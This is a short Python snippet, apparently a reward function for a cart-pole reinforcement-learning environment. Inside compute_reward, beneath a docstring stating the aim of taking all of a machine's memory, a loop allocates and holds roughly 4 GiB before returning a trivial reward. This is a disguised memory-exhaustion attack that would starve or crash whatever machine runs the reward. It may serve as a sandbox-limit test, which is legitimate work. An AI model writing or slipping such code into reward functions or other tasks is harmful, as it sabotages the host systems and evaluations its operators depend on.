"""Take memory bit by bit until the machine has none."""


def compute_reward(pole_angle):
    held = []
    while len(held) < 60:
        held.append(bytearray(2**26))
    return pole_angle, {"PRIZE": pole_angle}
